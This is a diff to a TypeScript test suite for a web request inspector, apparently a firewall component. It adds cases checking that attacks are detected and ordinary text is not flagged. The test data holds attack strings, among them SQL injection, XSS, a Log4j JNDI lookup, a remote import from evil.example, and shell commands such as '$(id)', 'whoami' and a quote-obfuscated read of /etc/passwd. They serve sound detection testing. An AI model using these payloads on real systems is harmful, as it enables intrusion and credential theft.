@@ -1,6 +1,9 @@
 /** The inspection of payloads: decoding, signatures, the model, and where values are found. */
 import { readVectors } from '@parapet/testing'
 import fc from 'fast-check'
+import { IncomingMessage } from 'node:http'
+import { Socket } from 'node:net'
+import { PassThrough } from 'node:stream'
 import t from 'tap'
 import { compileAutomaton } from '../src/inspect/automaton.ts'
 import { foldValue } from '../src/inspect/fold.ts'
@@ -8,12 +11,32 @@ import { createInspector } from '../src/inspect/inspector.ts'
 import { attackProbability } from '../src/inspect/model.ts'
 import type { Inspection, InspectorSettings, RequestParts } from '../src/inspect/types.ts'
 import { allSignatures } from '../src/signatures/all.ts'
-import { bodyOf, requestOf, stageOf, type Labelled, type Payload, type Stage } from './corpus.ts'
+import {
+  bodyOf,
+  ordinaryTexts,
+  requestOf,
+  stageOf,
+  type Labelled,
+  type Payload,
+  type Stage,
+} from './corpus.ts'
 
 const inspector = createInspector()
 const query = (value: string): RequestParts => ({ url: `/?q=${encodeURIComponent(value)}` })
 const inspect = (parts: RequestParts, settings?: InspectorSettings): Inspection =>
   (settings === undefined ? inspector : createInspector(settings)).inspect(parts)
+
+/** A limit is a finding, and no attack. */
+const limited = (rule: string) => ({ attack: false, reasons: [{ class: 'protocol', rule }] })
+
+const nest = (levels: number, inmost: unknown) => {
+  let body = inmost
+  for (let i = 0; i < levels; i++) body = { replies: [body] }
+  return body
+}
+
+const lines = (count: number, of: (i: number) => string) =>
+  Array.from({ length: count }, (_, i) => of(i)).join('\n')
 
 /** A body with one file, as `@fastify/multipart` attaches it. */
 const upload = (filename: string) => {
@@ -185,7 +208,7 @@ await t.test('a request without values costs nothing', async (t) => {
     { headers },
     { body: null },
     { body: 5 },
-    { body: Buffer.from("' or 1=1--") },
+    { body: Buffer.from([0xff, 0xd8, 0, 1]) },
   ]) {
     t.match(inspect(parts), { score: 0, attack: false, class: undefined, reasons: [] })
   }
@@ -205,6 +228,16 @@ await t.test('fields are exempt, or read as base64, by their location', async (t
   t.equal(inspect({ body: { data } }, { fields }).attack, true)
   t.equal(inspect({ body: { other: data } }, { fields }).attack, false, 'base64 is not guessed')
   t.equal(inspect({ body: { data: 'no base64!' } }, { fields }).attack, false)
+  const long = Buffer.from(`${attack} ${'and more text '.repeat(9)}`).toString('base64')
+  for (const [how, form] of [
+    ['lines', long.replaceAll(/.{20}/g, '$&\r\n')],
+    ['a blank', `${data.slice(0, 6)} ${data.slice(6)}`],
+    ['a data URL', `data:text/plain;base64,${data}`],
+    ['base64 of base64', Buffer.from(data).toString('base64')],
+    ['UTF-16', Buffer.from(attack, 'utf16le').toString('base64')],
+  ] as const) {
+    t.equal(inspect({ body: { data: form } }, { fields }).attack, true, how)
+  }
 })
 
 await t.test('classes can be left out, and the threshold moved', async (t) => {
@@ -261,6 +294,106 @@ await t.test('what users and programs usually send is no attack', async (t) => {
   }
 })
 
+await t.test(
+  'ordinary texts with a word of an attack are no attack, short or in prose',
+  async (t) => {
+    for (const text of ordinaryTexts) {
+      for (const [where, parts] of [
+        ['a query', query(text)],
+        ['a body', { body: { text } }],
+        [
+          'prose',
+          { body: `Hello, this is what I have seen today: ${text} and that is all I can say.` },
+        ],
+      ] as const) {
+        const { attack, reasons } = inspect(parts)
+        if (attack) t.fail(`${JSON.stringify(text)} in ${where}: ${reasons[0]?.rule}`)
+      }
+    }
+    const rows = Array.from({ length: 700 }, (_, i) => ({
+      id: String(i),
+      a: 'x',
+      b: 'x',
+      c: 'x',
+      d: 'x',
+    }))
+    const xml =
+      '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 x.xsd"/>'
+    for (const parts of [
+      { body: { $type: 'app.example.feed.post', text: 'hi' } },
+      { body: { $set: { plan: 'pro' }, $search: 'blue' } },
+      { body: { rows } },
+      { body: { xml } },
+      { body: xml },
+      { body: { html: '<p style="color: red" class="note">Hello <a href="/a?b=1">you</a></p>' } },
+      { url: '/?$filter=a&$search=blue&$top=10&$orderby=name' },
+      { url: '/?redirect_uri=http://localhost:3000' },
+      { url: '/?next=https://192.168.1.20/app' },
+      { url: `/?next=${encodeURIComponent('/list?a=1&onpage=2')}` },
+      { url: '/?q=coast.+house' },
+      {
+        headers: {
+          referer: 'https://shop.example/search?q=the%20coast.&next=../../a&x=1%20or%201=1',
+        },
+      },
+      {
+        headers: {
+          host: 'shop.example',
+          authorization: 'Bearer a.b-c_d',
+          'sec-ch-ua': '"A";v="1"',
+        },
+      },
+    ]) {
+      const { attack, reasons } = inspect(parts)
+      t.equal(
+        attack,
+        false,
+        `${JSON.stringify(parts).slice(0, 80)} ${attack ? reasons[0]?.rule : ''}`,
+      )
+    }
+  },
+)
+
+await t.test('a lookup of Log4j is found in every header', async (t) => {
+  for (const name of [
+    'authorization',
+    'host',
+    'if-modified-since',
+    'sec-ch-ua',
+    'referer',
+    'date',
+  ]) {
+    const value = 'https://a.example/${jndi:ldap://b.example/a}'
+    t.match(inspect({ headers: { [name]: value } }), { attack: true, class: 'log4shell' }, name)
+  }
+})
+
+await t.test('single payloads are found', async (t) => {
+  for (const text of [
+    "x' or not false #",
+    '-1 union values row(1,2)',
+    '";import("//evil.example/a")//',
+    'x;node -e 1',
+    '{{dump()}}',
+    '$(id)',
+    '`id`',
+    '<script>alert(1)</script>',
+    "' or true -- ",
+    '#{root.process}',
+    'x & whoami',
+    '{{7*7}}',
+  ]) {
+    t.equal(inspect({ body: { q: text } }).attack, true, text)
+  }
+  for (const url of [
+    '/?u=a%0d%0aContent-Security-Policy:x',
+    '/?u=a%0aStrict-Transport-Security:max-age=0',
+  ])
+    t.equal(inspect({ url }).attack, true, url)
+  t.equal(inspect({ body: { $unionWith: 'users' } }).attack, true)
+  t.equal(inspect({ body: { a: { $sum: 1 } } }).attack, true)
+})
+
 await t.test('a hint counts only as much as the model confirms it', async (t) => {
   const confirmed = inspect(query("1'-@a or'1"))
   t.ok(confirmed.score > 0.3)
@@ -271,21 +404,131 @@ await t.test('a hint counts only as much as the model confirms it', async (t) =>
   t.match(inspect({ body: { q: ') ) ) ' } }), { score: 0 })
 })
 
-await t.test('a request that is too deep, too large or too dense is a finding', async (t) => {
-  let deep: unknown = 'x'
-  for (let i = 0; i < 40; i++) deep = { a: deep }
-  t.match(inspect({ body: deep }).reasons[0], { class: 'protocol', rule: 'protocol.depth' })
-  t.equal(inspect({ body: deep }, { maxDepth: 64 }).attack, false)
+await t.test('limits end the look at a request, and are no attack', async (t) => {
+  const attack = '<script>alert(1)</script>'
+  t.match(inspect({ body: nest(17, 'x') }), { score: 0 }, 'a thread of comments')
+  t.match(inspect({ body: nest(49, attack) }), { attack: true })
+  t.match(inspect({ body: nest(60, attack) }), limited('protocol.depth'))
+  t.match(inspect({ body: nest(60, attack) }, { maxDepth: 200 }), { attack: true })
   const nested: unknown = JSON.parse(`${'['.repeat(50_000)}${']'.repeat(50_000)}`)
-  t.match(inspect({ body: nested }).reasons, [{ rule: 'protocol.depth' }], 'a stack of arrays')
+  t.match(inspect({ body: nested }), limited('protocol.depth'), 'a stack of arrays')
+  const rows = Array.from({ length: 1000 }, (_, i) => ({
+    id: `${i}`,
+    a: 'x',
+    b: 'x',
+    c: 'x',
+    d: 'x',
+  }))
+  t.match(inspect({ body: { rows } }), { score: 0 }, 'a bulk import')
+  t.match(inspect({ body: Array.from({ length: 10_001 }, () => 'x') }), { score: 0 }, 'tags')
   const many = Array.from({ length: 20 }, () => 'x')
-  t.match(inspect({ body: many }, { maxValues: 10 }).reasons, [{ rule: 'protocol.values' }])
+  t.match(inspect({ body: many }, { maxValues: 10 }), limited('protocol.values'))
+  const hollow = Array.from({ length: 20 }, () => [])
+  t.match(inspect({ body: hollow }, { maxValues: 10 }), limited('protocol.values'))
   const pairs = `/?${'a=b&'.repeat(30)}`
-  t.match(inspect({ url: pairs }, { maxValues: 10 }).reasons, [{ rule: 'protocol.values' }])
-  t.match(inspect({ url: '/?a=b%00c' }).reasons[0], { rule: 'protocol.nul', location: 'query.a' })
+  t.match(inspect({ url: pairs }, { maxValues: 10 }), limited('protocol.values'))
+  t.match(inspect({ url: '/?a=b%00c' }), { attack: true, reasons: [{ rule: 'protocol.nul' }] })
   t.equal(inspect({ body: { a: 'b\0c' } }).attack, false, 'a NUL of a body is no finding')
-  const dense = inspect({ body: { a: 'or '.repeat(30_000) } }).reasons
-  t.match(dense[0], { rule: 'protocol.dense', location: 'body.a' })
+})
+
+await t.test(
+  'a text that uses up its tries is no attack, and hides none at its ends',
+  async (t) => {
+    const dense = '1;or;and;in;is;on\n'.repeat(5000)
+    t.match(inspect({ body: dense }), { attack: false, reasons: [{ rule: 'protocol.dense' }] })
+    for (const [where, body] of [
+      ['at the beginning', `1' or '1'='1' ${dense}`],
+      ['at the end', `${dense} 1' or '1'='1`],
+      [
+        'in the middle, of words that are rare in it',
+        `${dense} <script>alert(1)</script> ${dense}`,
+      ],
+      ['in the middle, a statement', `${dense} 1 union select password from users ${dense}`],
+    ] as const) {
+      t.match(inspect({ body }), { attack: true }, where)
+    }
+  },
+)
+
+await t.test('long texts as people write them are no attack', async (t) => {
+  const sentence =
+    'We met at the station and walked to the harbour, where the boats are in for the winter or for repair, and then it rained. '
+  const licence = `Permission is hereby granted, free of charge, to any person obtaining a copy of this software and associated documentation files (the "Software"), to deal in the Software without restriction, including without limitation the rights to use, copy, modify, merge, publish, distribute, sublicense, and/or sell copies of the Software, and to permit persons to whom the Software is furnished to do so, subject to the following conditions: THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY, FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT.\n`
+  for (const [name, text] of [
+    ['prose of 4 KB', sentence.repeat(35)],
+    ['prose of 20 KB', sentence.repeat(160)],
+    ['prose of 90 KB', sentence.repeat(720)],
+    ['lines of prose', lines(200, () => sentence)],
+    ['and/or', 'bread and butter or jam and tea or coffee, '.repeat(200)],
+    ['CSV of words', lines(3000, (i) => `${i};or;and;in;is;on`)],
+    ['quoted CSV', lines(3000, (i) => `"${i}","Name ${i}","x"`)],
+    ['CSV with apostrophes', lines(1000, (i) => `${i},O'Brien,"5 or 6","yes, and no"`)],
+    ['a table of Markdown', lines(300, (i) => `| ${i} | a | b |`)],
+    ['a list of Markdown', lines(300, (i) => `- **item ${i}**: see [it](#i${i}) and \`code\``)],
+    ['apostrophes', "it's don't can't 'quoted' ".repeat(400)],
+    ['a licence', licence.repeat(8)],
+    ['a log', lines(400, (i) => `2026-01-05 12:00:${i % 60} INFO [main] user=${i} status=200`)],
+    ['JSON', JSON.stringify(Array.from({ length: 500 }, (_, id) => ({ id, or: 'and', in: [] })))],
+    ['base64', Buffer.from(lines(2000, String)).toString('base64')],
+  ] as const) {
+    for (const body of [{ text }, text, Buffer.from(text)]) {
+      const { attack, reasons } = inspect({ body })
+      t.equal(attack, false, `${name} ${attack ? reasons[0]?.rule : ''}`)
+    }
+  }
+  t.match(
+    inspect({ body: `${sentence.repeat(80)}' union select password from users-- ${sentence}` }),
+    {
+      attack: true,
+    },
+  )
+  const pad = 'lorem ipsum dolor sit amet '.repeat(400)
+  const quoted = `${pad}${pad}; c''at /e''tc/pa''sswd ${pad}`
+  t.match(inspect({ body: quoted }), { attack: true }, 'a command in quotes in the middle')
+})
+
+await t.test('bodies are read as data, and live objects are left alone', async (t) => {
+  const attack = '<script>alert(1)</script>'
+  const large = Buffer.from(`${'é lorem ipsum '.repeat(9000)}${attack}`)
+  const bare: object = Object.assign(Object.create(null) as object, { a: attack })
+  for (const [name, body] of [
+    ['a map', new Map([['a', attack]])],
+    ['a map of other keys', new Map([[1, { b: attack }]])],
+    ['a set', new Set([attack])],
+    ['pairs of a query', new URLSearchParams({ a: attack })],
+    ['a name', new URLSearchParams({ [attack]: 'a' })],
+    ['a form', [new Map([['f', [new Set([attack])]]])]],
+    ['a text in a buffer', Buffer.from(attack)],
+    ['bytes', new TextEncoder().encode(attack)],
+    ['an ArrayBuffer', new Uint8Array(Buffer.from(attack)).buffer],
+    ['a large one, at its end', large],
+    ['UTF-16', Buffer.from(`\uFEFF${attack}`, 'utf16le')],
+    ['UTF-16 of the other order', Buffer.from(`\uFEFF${attack}`, 'utf16le').swap16()],
+    ['a string object', { a: new String(attack) }],
+    ['an object without prototype', bare],
+  ] as const) {
+    t.match(inspect({ body }), { attack: true, class: 'xss' }, name)
+  }
+  const circle: Record<string, unknown> = { a: 'x' }
+  circle['self'] = [circle]
+  const throwing = {
+    get lazy(): string {
+      throw new Error('not to be read')
+    },
+    z: attack,
+  }
+  for (const [name, body] of [
+    ['a stream', new PassThrough()],
+    ['a request', new IncomingMessage(new Socket())],
+    ['a stream in an object', { file: new PassThrough(), name: 'x' }],
+    ['a circle', circle],
+    ['a picture', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0, 16]), Buffer.from(attack)])],
+    ['a date', { at: new Date(0) }],
+    ['a promise', Promise.resolve(attack)],
+  ] as const) {
+    t.match(inspect({ body }), { score: 0, attack: false }, name)
+  }
+  t.match(inspect({ body: throwing }), { attack: true }, 'a getter that throws hides nothing')
 })
 
 await t.test('a finding names no payload, and at most eight are kept', async (t) => {
